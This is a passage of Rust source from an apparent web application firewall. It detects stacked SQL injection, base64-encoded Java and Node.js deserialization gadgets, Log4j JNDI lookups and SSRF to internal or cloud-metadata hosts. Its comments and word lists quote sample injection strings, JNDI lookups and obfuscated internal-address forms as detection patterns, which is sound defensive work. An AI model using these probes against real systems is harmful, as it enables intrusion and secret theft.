                match memchr::memmem::find(&from[at + 2..], b"*/") {
                    Some(end) => at += end + 4,
                    None => return (from.len(), from.len()),
                }
            } else {
                break;
            }
        }
        (at, at + leading_word(&from[at..]).len())
    };
    for semicolon in memchr::memchr_iter(b';', text) {
        let rest = &text[semicolon + 1..];
        let (start, end) = token(rest);
        let keyword = &rest[start..end];
        let after = &rest[end..];
        let (next_start, next_end) = token(after);
        let next = &after[next_start..next_end];
        let next_first = after[next_start..].first().copied();
        let then = |word: &[u8]| next == word;
        let words_later = |word: &[u8]| {
            after
                .split(|b| !b.is_ascii_alphanumeric())
                .any(|w| w == word)
        };
        let stacked = match keyword {
            b"select" => {
                matches!(next_first, Some(b'*' | b'\'' | b'"' | b'@' | b'0'..=b'9'))
                    || after[next_end..].trim_ascii_start().starts_with(b"(")
                    || words_later(b"from")
            }
            b"insert" | b"replace" => then(b"into"),
            b"update" => {
                let table_after = &after[next_end..];
                let (set_start, set_end) = token(table_after);
                !next.is_empty() && &table_after[set_start..set_end] == b"set"
            }
            b"delete" => then(b"from"),
            // `TABLE` is optional in PostgreSQL's and MySQL's `TRUNCATE`: a name alone, then
            // the statement's end (`; truncate users;--`; "; truncate the fried food" goes on).
            b"truncate" if !next.is_empty() && statement_ends(&after[next_end..]) => true,
            b"drop" | b"create" | b"alter" | b"truncate" | b"rename" => matches!(
                next,
                b"table"
                    | b"database"
                    | b"user"
                    | b"view"
                    | b"function"
                    | b"procedure"
                    | b"trigger"
                    | b"index"
                    | b"schema"
                    | b"login"
                    | b"role"
                    | b"system"
            ),
            b"exec" | b"execute" => {
                next.starts_with(b"xp_")
                    || next.starts_with(b"sp_")
                    || next == b"master"
                    || next == b"immediate"
                    || matches!(next_first, Some(b'\'' | b'"' | b'@'))
            }
            b"declare" | b"set" => next_first == Some(b'@'),
            b"copy" => words_later(b"program") || next_first == Some(b'('),
            b"attach" => then(b"database"),
            b"load" => then(b"data"),
            b"shutdown" => next.is_empty() || then(b"with"),
            _ => keyword.starts_with(b"xp_") || keyword.starts_with(b"sp_"),
        };
        if stacked {
            return Some(HIT);
        }
    }
    None
}

/// Whether `rest` ends an SQL statement: nothing more, `;`, or a comment.
fn statement_ends(rest: &[u8]) -> bool {
    let rest = rest.trim_ascii_start();
    rest.is_empty()
        || rest.starts_with(b";")
        || rest.starts_with(b"--")
        || rest.starts_with(b"#")
        || rest.starts_with(b"/*")
}

/// Whether the `;` at `at` separates items of a list, as notes write them (`Count (WBC)
/// high; CRP elevated and fever`, `BP 130/80; HR 72`): a space, then a word that starts no
/// SQL statement. A stacked query needs a statement after its `;` (`; select`, `; drop`,
/// `; exec`, `; copy … from program`, `; attach database`), and a `;` glued to what follows,
/// or before a comment, a quote or the end, still opens libinjection's gate. Words a note
/// also writes (`call`, `set`, `show`, `use`, `do`, `if`) stay in the list: such a note
/// still goes to libinjection, as every note with a `;` did before.
fn list_semicolon(text: &[u8], at: usize) -> bool {
    const STATEMENTS: [&[u8]; 58] = [
        b"select",
        b"insert",
        b"update",
        b"delete",
        b"drop",
        b"create",
        b"alter",
        b"exec",
        b"execute",
        b"declare",
        b"set",
        b"shutdown",
        b"waitfor",
        b"truncate",
        b"grant",
        b"revoke",
        b"call",
        b"load",
        b"handler",
        b"use",
        b"show",
        b"begin",
        b"commit",
        b"rollback",
        b"union",
        b"with",
        b"if",
        b"while",
        b"replace",
        b"merge",
        b"copy",
        b"do",
        b"prepare",
        b"kill",
        b"table",
        b"values",
        b"rename",
        b"lock",
        b"backup",
        b"restore",
        b"dbcc",
        b"bulk",
        b"print",
        b"raiserror",
        b"analyze",
        b"vacuum",
        b"attach",
        b"pragma",
        b"listen",
        b"notify",
        b"reindex",
        b"comment",
        b"open",
        b"fetch",
        b"close",
        b"sleep",
        b"benchmark",
        b"end",
    ];
    let after = &text[at + 1..];
    let spaces = after.iter().take_while(|b| **b == b' ').count();
    let word = leading_word(&after[spaces..]);
    // SQL Server runs a stored procedure named first in a batch without `exec`.
    let procedure = word.len() > 3
        && (word[..3].eq_ignore_ascii_case(b"xp_") || word[..3].eq_ignore_ascii_case(b"sp_"));
    spaces > 0
        && word.first().is_some_and(u8::is_ascii_alphabetic)
        && !procedure
        && !STATEMENTS.iter().any(|w| word.eq_ignore_ascii_case(w))
}

/// Whether every double quote of `text` pairs into a quoted word or phrase as prose writes
/// one (`Rate as "none", "mild", "moderate" or "severe"`, `Label says "take with food"`):
/// opened after the start, a space or `(` on a letter, closed after a letter before the
/// end, a space or punctuation, letters, spaces and hyphens between, none of them a word
/// SQL reads alone (`union`, `select`, `or`, `not`, `by`, …). Read into a backend's
/// double-quoted literal, each pair closes it and opens it again around bare words, which
/// without operators, parentheses or keywords add no condition, call or clause; in a
/// numeric context the text outside the quotes is the bare part, so it holds no digit and no
/// clause or value word. libinjection is not asked (it read such a list as strings joined by
/// `or`). `" or "1"="1`, `x" or "a"="a`, `"a" or 1` and `"x" union select "y"` still are.
fn quoted_words(text: &[u8]) -> bool {
    // Outside the quotes, in a numeric context, the text is bare SQL: no digit (`"a" or
    // 1`), and no word that opens a clause or is a value (`order by`, `true`).
    let mut outside_quotes = text.split(|&b| b == b'"').step_by(2);
    if !outside_quotes.all(|part| {
        !part.iter().any(u8::is_ascii_digit)
            && !part
                .split(|b| !b.is_ascii_alphabetic())
                .any(sql_clause_word)
    }) {
        return false;
    }
    let mut quotes = memchr::memchr_iter(b'"', text);
    let mut pairs = 0;
    while let Some(open) = quotes.next() {
        let Some(close) = quotes.next() else {
            return false;
        };
        let inside = &text[open + 1..close];
        let opens = open == 0 || matches!(text[open - 1], b' ' | b'(');
        let closes = matches!(
            text.get(close + 1),
            None | Some(b' ' | b',' | b'.' | b')' | b';' | b':' | b'?' | b'!')
        );
        let phrase = inside.len() <= 40
            && inside.first().is_some_and(u8::is_ascii_alphabetic)
            && inside.last().is_some_and(u8::is_ascii_alphabetic)
            && inside
                .iter()
                .all(|&b| b.is_ascii_alphabetic() || b == b' ' || b == b'-')
            && !inside
                .split(|&b| b == b' ' || b == b'-')
                .any(|word| SQL_KEYWORDS.iter().any(|w| word.eq_ignore_ascii_case(w)));
        if !(opens && closes && phrase) {
            return false;
        }
        pairs += 1;
    }
    pairs > 0
}

/// Whether the value's only quote is one apostrophe inside a word (`Murphy's`, `can't`,
/// `O'Brien`): English's, not SQL's. One quote cannot close a backend's string literal and
/// leave valid SQL behind: the backend's own closing quote is then left open, unless a
/// comment (`--`, `#`, `/*`) or `;` swallows it, and each of those opens the gate itself.
/// So such a value goes to libinjection only if something else sends it (`sign (x) Murphy's
/// and …` read as a call in a condition was refused before).
fn lone_apostrophe(text: &[u8]) -> bool {
    let mut quotes = memchr::memchr_iter(b'\'', text);
    let (Some(at), None) = (quotes.next(), quotes.next()) else {
        return false;
    };
    // The word after it is English's too: `x'or 1 > 1`, `aa'or current_date*0` are the
    // probes CRS and libinjection's corpus find this way.
    const SQL_WORDS: [&[u8]; 12] = [
        b"or", b"and", b"xor", b"div", b"like", b"rlike", b"regexp", b"is", b"in", b"not",
        b"union", b"having",
    ];
    let after = &text[at + 1..];
    let word = &after[..after.iter().take_while(|b| b.is_ascii_alphabetic()).count()];
    at > 0
        && text[at - 1].is_ascii_alphabetic()
        && !word.is_empty()
        && !SQL_WORDS.iter().any(|w| word.eq_ignore_ascii_case(w))
}

/// Whether the `#` at `at` ends `text` with a FHIR local reference (`#reporter`, the whole
/// value) or a URL's fragment (`http://loinc.org/rdf#54124-3`: a URL before it, no space):
/// not MySQL's comment. A comment can only end an injection that is already there, and
/// before such a `#` there is either nothing or a `:/`, which no SQL dialect parses, so
/// libinjection is not asked about it (it was, at about 30,000 instructions a reference).
/// Any other `#` (`Local #35`, `1 or true#`) still is.
fn reference_fragment(text: &[u8], at: usize) -> bool {
    let (before, after) = (&text[..at], &text[at + 1..]);
    let fragment = !after.is_empty()
        && after
            .iter()
            .all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-'));
    fragment
        && (before.is_empty()
            || (memchr::memchr_iter(b':', before).any(|c| before[c + 1..].starts_with(b"//"))
                && !before.iter().any(u8::is_ascii_whitespace)))
}

/// The SQL word `text` starts with (letters, digits, `_`; empty when it starts otherwise).
fn leading_word(text: &[u8]) -> &[u8] {
    let len = text
        .iter()
        .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
        .count();
    &text[..len]
}

/// Words that, right after a `(`, open a subquery or an expression: not an aside.
const OPENS_SQL: [&[u8]; 11] = [
    b"select", b"case", b"not", b"exists", b"true", b"false", b"null", b"values", b"with",
    b"union", b"if",
];

/// Words that join SQL conditions.
const JOINS_CONDITIONS: [&[u8]; 5] = [b"or", b"and", b"xor", b"div", b"like"];

/// Whether every parenthesis of `text` is one prose writes (`Blood pressure (sitting)`,
/// `Body mass index (BMI) [Ratio]`, `検査（基準値内）` once folded), in a value with no word
/// that joins SQL conditions. libinjection spends tens of thousands of instructions on such
/// a value (it looks up every pair of words), and clinical text is full of them. A `(` is
/// prose after a space, the start, a character that is not ASCII or a hyphen glued to a
/// word (a chemical name's `4-(dimethylamino)`), and before a letter
/// or such a character, unless the word it opens starts a subquery or an expression
/// (`(select`, `(case`, `(true`); a `)` is prose after a letter, a `.` or such a
/// character. A call (`sleep(5)`), a number in parentheses (`(1)`, `1234.5)`), a
/// subquery, or `or`, `and`, `xor`, `div`, `like`, `||`, `&&` anywhere, and the value is
/// libinjection's.
fn prose_parentheses(text: &[u8]) -> bool {
    let prose_open = |at: usize| {
        // A chemical name's hyphen glued to a locant or a prefix opens one too:
        // `4-(dimethylamino)benzoic acid`, `beta-(…)`.
        let hyphenated = at >= 2 && text[at - 1] == b'-' && text[at - 2].is_ascii_alphanumeric();
        let before_ok = at == 0 || text[at - 1] == b' ' || !text[at - 1].is_ascii() || hyphenated;
        let after = text.get(at + 1).copied();
        before_ok
            && match after {
                Some(b) if b.is_ascii_alphabetic() => {
                    let word = leading_word(&text[at + 1..]);
                    !OPENS_SQL.iter().any(|w| word.eq_ignore_ascii_case(w))
                }
                Some(b) => !b.is_ascii(),
                None => false,
            }
    };
    let prose_close = |at: usize| {
        at > 0
            && (text[at - 1].is_ascii_alphabetic()
                || text[at - 1] == b'.'
                || !text[at - 1].is_ascii())
    };
    let parentheses_are_prose = memchr::memchr2_iter(b'(', b')', text).all(|at| match text[at] {
        b'(' => prose_open(at),
        _ => prose_close(at),
    });
    parentheses_are_prose
        && !memchr::memchr2_iter(b'|', b'&', text).any(|at| text.get(at + 1) == Some(&text[at]))
        && !text
            .split(|b| !b.is_ascii_alphanumeric() && *b != b'_')
            .any(|word| {
                JOINS_CONDITIONS
                    .iter()
                    .any(|w| word.eq_ignore_ascii_case(w))
            })
}

/// Whether `text` is prose whose parentheses are asides (`Left (arm) 130/80 and right (arm)
/// 128/78`, `One quarter (24%) of people … and`): [`prose_parentheses`] with `and`/`or`
/// allowed. Clinical notes write a word SQL also names a function (`Left`, `Count`,
/// `Upper`, `Lower`, `Format`, `Sign`) before an aside, and with an `and` anywhere
/// libinjection reads the pair as a call in a condition. Here every parenthesis belongs to
/// one closed, unnested aside that opens after a space, the start or a character that is
/// not ASCII, on a letter, digit or such a character (not a word that starts a subquery or
/// an expression), and closes after one of those, a `.` or a `%`. Such asides break out of
/// nothing: a parenthesis a backend opened is closed by none of them, and the value without
/// them holds no byte libinjection's gate opens on. What stays libinjection's: a value that
/// starts as a numeric context's injection (`1 and length (password) > 5`: a number, or
/// nothing, then `and`/`or`/`xor`/`div`/`like`), `||` or `&&`, and a clause keyword
/// (`id having (1 or true)`). Time delays with a space before the parenthesis are
/// `sqli-110`'s (`sleep (5)`).
fn prose_parentheticals(text: &[u8]) -> bool {
    const CLAUSES: [&[u8]; 6] = [
        b"having",
        b"where",
        b"union",
        b"procedure",
        b"order",
        b"group",
    ];
    let aside_char = |b: u8| b.is_ascii_alphanumeric() || !b.is_ascii();
    let mut open = false;
    for at in memchr::memchr2_iter(b'(', b')', text) {
        let closes = text[at] == b')';
        if closes != open {
            return false; // a `)` opening nothing, or an aside inside an aside
        }
        open = !closes;
        let fits = if closes {
            at > 0 && (aside_char(text[at - 1]) || matches!(text[at - 1], b'.' | b'%'))
        } else {
            let before = at == 0 || text[at - 1] == b' ' || !text[at - 1].is_ascii();
            let word = leading_word(&text[at + 1..]);
            before
                && text.get(at + 1).is_some_and(|&b| aside_char(b))
                && !OPENS_SQL.iter().any(|w| word.eq_ignore_ascii_case(w))
        };
        if !fits {
            return false;
        }
    }
    if open || memchr::memchr2_iter(b'|', b'&', text).any(|at| text.get(at + 1) == Some(&text[at]))
    {
        return false;
    }
    // The first word after any numbers (`1`, `-1.5`): a condition's joint there continues
    // the backend's own expression.
    let starts_condition = text
        .split(|b| b.is_ascii() && !b.is_ascii_alphanumeric() && *b != b'_')
        .find(|word| !word.iter().all(u8::is_ascii_digit))
        .is_some_and(|word| {
            JOINS_CONDITIONS
                .iter()
                .any(|w| word.eq_ignore_ascii_case(w))
        });
    !starts_condition
        && !text
            .split(|b| !b.is_ascii_alphanumeric() && *b != b'_')
            .any(|word| CLAUSES.iter().any(|w| word.eq_ignore_ascii_case(w)))
}

/// Words hidden in base64 (a serialized payload in a parameter, a Node.js function in a
/// cookie): each word's base64 form at the three byte alignments a surrounding text can give
/// it, matched case-sensitively as base64 is. Values are not base64-decoded (docs/inspect.md);
/// this runs on plain values too, since a base64 run is letters and digits.
fn base64_words(bytes: &[u8]) -> Option<Hit> {
    let (words, shortest) = base64_word_automaton()?;
    // Most values (text with spaces, Japanese, identifiers, capitalised words) have no run
    // of base64 characters as long as a pattern with as many capitals and digits after its
    // first character as every pattern has (base64 of lower-case text is full of them), and
    // skip the automaton. The whole value's count of capitals and digits comes first: it is
    // vectorised, and rules out runs of lower-case letters and most text at once.
    if !at_least(bytes, BASE64_MARKED, upper_or_digit) || !has_marked_run(bytes, *shortest) {
        return None;
    }
    words
        .find(bytes)
        .map(|m| compiled().base64_words[m.pattern().as_usize()].1)
}

/// The automaton over [`Compiled::base64_words`], and the fewest base64 characters in a row
/// any of them needs. aho-corasick's full DFA: an attachment's base64 runs to megabytes, and
/// its default (contiguous NFA) cost 40 instructions a byte on it, the DFA 16.
/// (regex-automata's dense DFA ran at 4, but took 150 ms and 13 MB to build, docs/inspect.md.)
fn base64_word_automaton() -> Option<&'static (aho_corasick::AhoCorasick, usize)> {
    static WORDS: std::sync::LazyLock<Option<(aho_corasick::AhoCorasick, usize)>> =
        std::sync::LazyLock::new(|| {
            let words = &compiled().base64_words;
            let shortest = words.iter().map(|(word, _)| word.len()).min().unwrap_or(1);
            let automaton = aho_corasick::AhoCorasick::builder()
                .kind(Some(aho_corasick::AhoCorasickKind::DFA))
                .build(words.iter().map(|(word, _)| word))
                .ok()?;
            Some((automaton, shortest))
        });
    WORDS.as_ref()
}

fn upper_or_digit(b: u8) -> bool {
    b.wrapping_sub(b'A') < 26 || b.wrapping_sub(b'0') < 10
}

/// Whether `bytes` hold a run of at least `len` base64 characters with [`BASE64_MARKED`]
/// capitals and digits after its first.
fn has_marked_run(bytes: &[u8], len: usize) -> bool {
    let (mut run, mut marked) = (0, 0);
    for &b in bytes {
        if b.is_ascii_alphanumeric() || b == b'+' || b == b'/' {
            if run > 0 && upper_or_digit(b) {
                marked += 1;
            }
            run += 1;
            if run >= len && marked >= BASE64_MARKED {
                return true;
            }
        } else {
            (run, marked) = (0, 0);
        }
    }
    false
}

/// The fewest capitals and digits after its first character that every pattern of
/// [`base64_patterns`] has (a unit test checks).
const BASE64_MARKED: usize = 3;

/// The base64 patterns [`base64_words`] looks for, and the hit each stands for.
const JAVA_GADGET: Hit = Hit {
    rule: "java-130",
    class: Class::Java,
};
const NODE_FUNCTION: Hit = Hit {
    rule: "nodejs-110",
    class: Class::Nodejs,
};

/// What a serialized Java object or a Node.js function always carries, matched in base64
/// by `java-130` and `nodejs-110`: each word as written and capitalised.
const SERIALIZED_WORDS: &[(&[u8], Hit)] = &[
    (b"runtime", JAVA_GADGET),
    (b"processbuilder", JAVA_GADGET),
    (b"clonetransformer", JAVA_GADGET),
    (b"forclosure", JAVA_GADGET),
    (b"instantiatefactory", JAVA_GADGET),
    (b"instantiatetransformer", JAVA_GADGET),
    (b"invokertransformer", JAVA_GADGET),
    (b"prototypeclonefactory", JAVA_GADGET),
    (b"prototypeserializationfactory", JAVA_GADGET),
    (b"whileclosure", JAVA_GADGET),
    (b"getproperty", JAVA_GADGET),
    (b"filewriter", JAVA_GADGET),
    (b"xmldecoder", JAVA_GADGET),
    (b"_$$ND_FUNC$$_", NODE_FUNCTION),
    (b"child_process", NODE_FUNCTION),
    (b"require(", NODE_FUNCTION),
    (b"while(true)", NODE_FUNCTION),
];

/// Java serialization's stream header: a serialized object follows.
const JAVA_STREAM_HEADER: [u8; 4] = [0xAC, 0xED, 0x00, 0x05];

/// Each of [`SERIALIZED_WORDS`] as written and with a capital first letter.
fn serialized_word_forms() -> impl Iterator<Item = (Vec<u8>, Hit)> {
    SERIALIZED_WORDS.iter().flat_map(|&(word, hit)| {
        let mut capital = word.to_vec();
        capital[..1].make_ascii_uppercase();
        let forms = if capital == word {
            vec![word.to_vec()]
        } else {
            vec![word.to_vec(), capital]
        };
        forms.into_iter().map(move |form| (form, hit))
    })
}

fn base64_patterns() -> (Vec<String>, Vec<Hit>) {
    // The stream header at the three alignments, as CRS 944210 spells it.
    let mut patterns: Vec<String> = ["rO0ABQ", "KztAAU", "Cs7QAF"].map(String::from).into();
    let mut hits = vec![JAVA_GADGET; patterns.len()];
    for (form, hit) in serialized_word_forms() {
        for shifted in base64_shifts(&form) {
            patterns.push(shifted);
            hits.push(hit);
        }
    }
    (patterns, hits)
}

/// The base64 rules asked of a file's decoded bytes (a FHIR `data` field the inspection
/// decoded to disarm it): `java-130` and `nodejs-110` for a word of [`SERIALIZED_WORDS`] or
/// the stream header anywhere, else `java-110` for bytes that start as a serialized Java
/// object. The same findings as [`plain_value`] on the base64, bar a base64 spelling that
/// sits across the encoding's four-character groups (no word there) and the header, found
/// here whatever byte follows it. The scan costs about what the base64 one does (16
/// instructions a byte, callgrind): the saving is the files it is not asked of (a PDF, JPEG or
/// PNG: `attachment::Collector::data`).
pub fn decoded_file(bytes: &[u8]) -> Option<Hit> {
    static WORDS: LazyLock<Option<(aho_corasick::AhoCorasick, Vec<Hit>)>> = LazyLock::new(|| {
        let (words, hits): (Vec<Vec<u8>>, Vec<Hit>) = serialized_word_forms()
            .chain([(JAVA_STREAM_HEADER.to_vec(), JAVA_GADGET)])
            .unzip();
        Some((aho_corasick::AhoCorasick::new(words).ok()?, hits))
    });
    let (words, hits) = WORDS.as_ref()?;
    words
        .find(bytes)
        .map(|m| hits[m.pattern().as_usize()])
        // `rO0AB`, as `java_stream` reads the base64: the header's first three bytes and a
        // version whose first six bits are 1.
        .or_else(|| {
            (bytes.starts_with(&JAVA_STREAM_HEADER[..3])
                && bytes.get(3).is_some_and(|b| b >> 2 == 1))
            .then_some(Hit {
                rule: "java-110",
                class: Class::Java,
            })
        })
}

/// The base64 characters that encode `word` alone, at each of the three byte offsets it can
/// start at in a longer text.
fn base64_shifts(word: &[u8]) -> Vec<String> {
    use base64::Engine as _;
    (0..3)
        .map(|offset| {
            let mut bytes = vec![0u8; offset];
            bytes.extend_from_slice(word);
            let encoded = base64::engine::general_purpose::STANDARD_NO_PAD.encode(&bytes);
            // Characters whose six bits all come from the word.
            let first = (8 * offset).div_ceil(6);
            let last = (8 * (offset + word.len())) / 6;
            encoded[first..last.min(encoded.len())].to_owned()
        })
        .collect()
}

/// A Log4j lookup in a value no other rule reads (`Accept-Language`, `Authorization`, the
/// headers [`crate::inspect`] leaves to identity and content negotiation): Log4j expands a
/// lookup in whatever header a backend logs.
pub fn lookup(value: &[u8]) -> Option<Hit> {
    memchr::memchr(b'$', value)?;
    jndi(&super::normalise::normalise(value, super::normalise::Plus::Literal).folded)
}

/// JNDI lookups, after unwrapping the lookups Log4j itself expands inside them
/// (`${lower:j}`, `${::-n}`, `${env:X:-d}`, `${date:'i'}`), nested to any depth.
fn jndi(folded: &str) -> Option<Hit> {
    static LOOKUP: LazyLock<memchr::memmem::Finder<'static>> =
        LazyLock::new(|| memchr::memmem::Finder::new("${"));
    // Nothing without a lookup's `${`.
    LOOKUP.find(folded.as_bytes())?;
    static WRAPPED: OnceLock<Option<regex::Regex>> = OnceLock::new();
    let wrapped = WRAPPED
        .get_or_init(|| {
            regex::Regex::new(
                r"\$\{(?:date:'([^']*)'|(?:[a-z0-9_.]*:)*?(?:[^${}:]*:-)?'?([^${}:']*)'?)\}",
            )
            .ok()
        })
        .as_ref()?;
    let mut text = folded.to_owned();
    for _ in 0..8 {
        if text.contains("${jndi:") {
            break;
        }
        let next = wrapped.replace_all(&text, "${1}${2}").into_owned();
        if next == text {
            break;
        }
        text = next;
    }
    if text.contains("${jndi:")
        || text.contains("jndi:ldap")
        || text.contains("jndi:rmi")
        || text.contains("jndi:dns")
    {
        return Some(Hit {
            rule: "jndi-100",
            class: Class::Jndi,
        });
    }
    // As written: unwrapping above takes a lookup's name off with its braces.
    lookup_prefix(folded)
}

/// A Log4j or Apache Commons Text lookup other than JNDI (`jndi-110`): `${env:AWS_SECRET…}`,
/// `${sys:user.home}`, `${ctx:…}` write a secret into a log or, inside a name, into a DNS
/// query; Commons Text's `${script:javascript:…}`, `${dns:…}`, `${url:…}` run or fetch
/// (CVE-2022-42889). A shell's `${HOME}` or a template's `${name}` has no lookup name
/// and colon; `${lower:…}`, `${upper:…}` and `${date:…}` change only text, and count as
/// pieces of a wrapped `jndi` above.
fn lookup_prefix(text: &str) -> Option<Hit> {
    const LOOKUPS: &[&str] = &[
        "env",
        "sys",
        "ctx",
        "main",
        "map",
        "sd",
        "k8s",
        "spring",
        "docker",
        "bundle",
        "java",
        "jvmrunargs",
        "log4j",
        "marker",
        "web",
        "event",
        "script",
        "dns",
        "url",
        "file",
        "const",
        "base64",
        "base64decoder",
        "base64encoder",
        "xml",
        "properties",
        "resourcebundle",
        "urlencoder",
        "urldecoder",
        "localhost",
    ];
    text.match_indices("${")
        .any(|(at, _)| {
            let rest = text[at + 2..].trim_start();
            rest.split_once(':')
                .is_some_and(|(name, _)| LOOKUPS.contains(&name.trim()))
        })
        .then_some(Hit {
            rule: "jndi-110",
            class: Class::Jndi,
        })
}

/// A URL value whose host is loopback, private, link-local, unspecified or a cloud metadata
/// name (R-WAF-1, SSRF).
fn ssrf(folded: &str) -> Option<Hit> {
    if schemeless_internal(folded) {
        return Some(Hit {
            rule: "ssrf-100",
            class: Class::Ssrf,
        });
    }
    // Every `scheme:` or `scheme://` in the value: URLs hide inside other text.
    let bytes = folded.as_bytes();
    let mut from = 0;
    while let Some(at) = folded[from..].find(':').map(|i| i + from) {
        from = at + 1;
        // The scheme starts after the last character that cannot be in one (which may be
        // more than one byte long).
        let scheme_start = folded[..at]
            .char_indices()
            .rev()
            .find(|&(_, c)| !(c.is_ascii_alphanumeric() || "+.-".contains(c)))
            .map_or(0, |(i, c)| i + c.len_utf8());
        let scheme = &folded[scheme_start..at];
        if scheme.is_empty() || scheme.len() > 16 || !bytes[scheme_start].is_ascii_alphabetic() {
            continue;
        }
        // `scheme://…` is a URL whatever the scheme; `http:host` only for schemes that fetch.
        const FETCHING: &[&str] = &[
            "http", "https", "ftp", "gopher", "dict", "file", "ldap", "ldaps", "tftp", "sftp",
            "ssh", "telnet", "smb", "rsync", "ws", "wss", "jar", "netdoc", "xri", "acap",
        ];
        let after = &folded[at + 1..];
        if !after.starts_with("//") && !FETCHING.contains(&scheme) {
            continue;
        }
        let rest = after.trim_start_matches('/');
        if internal_host(rest) {
            return Some(Hit {
                rule: "ssrf-100",
                class: Class::Ssrf,
            });
        }
    }
    None
}

/// Whether the authority at the start of `rest` names an internal host.
fn internal_host(rest: &str) -> bool {
    let authority = rest.split(['/', '?']).next().unwrap_or_default();
    // `http://a.com &@b.com# @127.0.0.1/`: the last `@` decides for most URL parsers.
    let host_port = authority.rsplit('@').next().unwrap_or_default().trim();
    let host = if let Some(v6) = host_port.strip_prefix('[') {
        v6.split(']').next().unwrap_or_default()
    } else {
        host_port.split([':', '#', ' ']).next().unwrap_or_default()
    };
    // A fully qualified name's root dot (`localhost.`, `metadata.google.internal.`,
    // `127.1.`): a resolver reads it as the name without it.
    let host = host.strip_suffix('.').unwrap_or(host);
    if host.is_empty() {
        return false;
    }
    // URL parsers map the ideographic full stop to `.` in host names (IDNA).
    let dotted;
    let host = if host.contains('。') {
        dotted = host.replace('。', ".");
        dotted.as_str()
    } else {
        host
    };
    match host.parse::<std::net::IpAddr>() {
        Ok(ip) => is_internal(ip),
        Err(_) => {
            internal_name(host)
                || embedded_address(host).is_some_and(|ip| is_internal(ip.into()))
                // 0x7f.1, 2130706433, 017700000001: numeric forms a resolver accepts.
                || host
                    .split('.')
                    .all(|p| !p.is_empty() && (p.starts_with("0x") || p.bytes().all(|b| b.is_ascii_digit())))
                    && !host.contains("..")
                    && host.bytes().any(|b| b != b'.')
                    && numeric_host_is_internal(host)
        }
    }
}

/// A host name that names the machine itself, its containers' host, a cluster's services or a
/// cloud's metadata service.
fn internal_name(host: &str) -> bool {
    const NAMES: &[&str] = &[
        "localhost",
        "localhost4",
        "localhost6",
        "localhost.localdomain",
        "localhost4.localdomain4",
        "localhost6.localdomain6",
        "ip6-localhost",
        "ipv6-localhost",
        "ip6-loopback",
        "localtest.me",
        "lvh.me",
        "metadata",
        "metadata.google.internal",
        "metadata.packet.net",
        "metadata.azure.com",
        "instance-data",
        "instance-data.ec2.internal",
        "kubernetes",
        "kubernetes.default",
    ];
    NAMES.contains(&host)
        || host.ends_with(".localhost")
        || host.ends_with(".internal")
        || host.ends_with(".localtest.me")
        // A Kubernetes service by its in-cluster name (`kubernetes.default.svc`,
        // `db.prod.svc`): `svc` is no public top-level domain.
        || host.ends_with(".svc")
        // Consul's service names (`vault.service.consul`), multicast DNS (`printer.local`;
        // a cluster's `*.svc.cluster.local` too) and the home networks' special-use domain (`router.home.arpa`, RFC 8375): no
        // public name ends so.
        || host.ends_with(".consul")
        || host.ends_with(".local")
        || host.ends_with(".home.arpa")
}

/// The IPv4 address a name spells at its start (`127.0.0.1.example.test`), or anywhere in
/// the names of the public wildcard DNS services that answer with the address a name holds
/// (`app.10.0.0.5.nip.io`, `127-0-0-1.sslip.io`, `7f000001.nip.io`): a URL that reaches a
/// private address through a public name.
fn embedded_address(host: &str) -> Option<std::net::Ipv4Addr> {
    const WILDCARD_DNS: &[&str] = &[".nip.io", ".sslip.io", ".xip.io", ".traefik.me"];
    // The first four labels of `name`, when `name` has as many.
    let four_labels = |name: &str| {
        let end = name
            .match_indices('.')
            .nth(3)
            .map_or(name.len(), |(at, _)| at);
        name[..end].parse::<std::net::Ipv4Addr>().ok()
    };
    if host.match_indices('.').nth(3).is_some() {
        if let Some(ip) = four_labels(host) {
            return Some(ip);
        }
    }
    let name = WILDCARD_DNS
        .iter()
        .find_map(|domain| host.strip_suffix(domain))?;
    let label_starts = std::iter::once(0).chain(name.match_indices('.').map(|(at, _)| at + 1));
    if let Some(ip) = label_starts.clone().find_map(|at| four_labels(&name[at..])) {
        return Some(ip);
    }
    // The last label, dashed (`magic-127-0-0-1`) or hexadecimal (`app-7f000001`).
    let last = &name[label_starts.last().unwrap_or(0)..];
    let dashed = &last[last.rmatch_indices('-').nth(3).map_or(0, |(at, _)| at + 1)..];
    if let Ok(ip) = dashed.replace('-', ".").parse() {
        return Some(ip);
    }
    let hex = last.rsplit('-').next()?;
    (hex.len() == 8)
        .then(|| u32::from_str_radix(hex, 16).ok())
        .flatten()
        .map(std::net::Ipv4Addr::from)
}

/// A value that starts with an internal host name and a path or port, without a scheme
/// (`localhost/admin`, `host.docker.internal:2375/`): what a backend that prepends
/// `http://` fetches. Names only: a number before a slash is a value (`118/76`).
fn schemeless_internal(folded: &str) -> bool {
    let Some(end) = folded.find(['/', ':']) else {
        return false;
    };
    let host = &folded[..end];
    internal_name(host) && !host.bytes().all(|b| b.is_ascii_digit() || b == b'.')
}

/// A host in the numeric forms `inet_aton` accepts (`2130706433`, `0x7f.1`, `0177.0.0.1`).
fn numeric_host_is_internal(host: &str) -> bool {
    let parts: Vec<u64> = host
        .split('.')
        .filter_map(|p| {
            if let Some(hex) = p.strip_prefix("0x") {
                u64::from_str_radix(hex, 16).ok()
            } else if p.len() > 1 && p.starts_with('0') {
                u64::from_str_radix(p, 8).ok()
            } else {
                p.parse().ok()
            }
        })
        .collect();
    let value = match parts.as_slice() {
        // A lone number past 32 bits wraps in some parsers (`7147006462` is 169.254.169.254).
        [a] => *a & 0xffff_ffff,
        [a, b] => (a << 24) | b,
        [a, b, c] => (a << 24) | (b << 16) | c,
        [a, b, c, d] => (a << 24) | (b << 16) | (c << 8) | d,
        _ => return false,
    };
    u32::try_from(value).is_ok_and(|v| is_internal(std::net::Ipv4Addr::from(v).into()))
}

fn is_internal(ip: std::net::IpAddr) -> bool {
    match ip {
        std::net::IpAddr::V4(v4) => {
            v4.is_loopback()
                || v4.is_private()
                || v4.is_link_local()
                || v4.is_unspecified()
                || v4.is_broadcast()
                || v4.octets()[0] == 100 && (64..128).contains(&v4.octets()[1])
                // Oracle Cloud's and Alibaba's metadata services.
                || v4.octets() == [192, 0, 0, 192]
                || v4.octets() == [100, 100, 100, 200]
        }
        std::net::IpAddr::V6(v6) => {
            v6.is_loopback()
                || v6.is_unspecified()
                || (v6.segments()[0] & 0xfe00) == 0xfc00
                || (v6.segments()[0] & 0xffc0) == 0xfe80
                || v6.to_ipv4_mapped().is_some_and(|v4| is_internal(v4.into()))
        }
    }
}

#[cfg(test)]
mod tests {
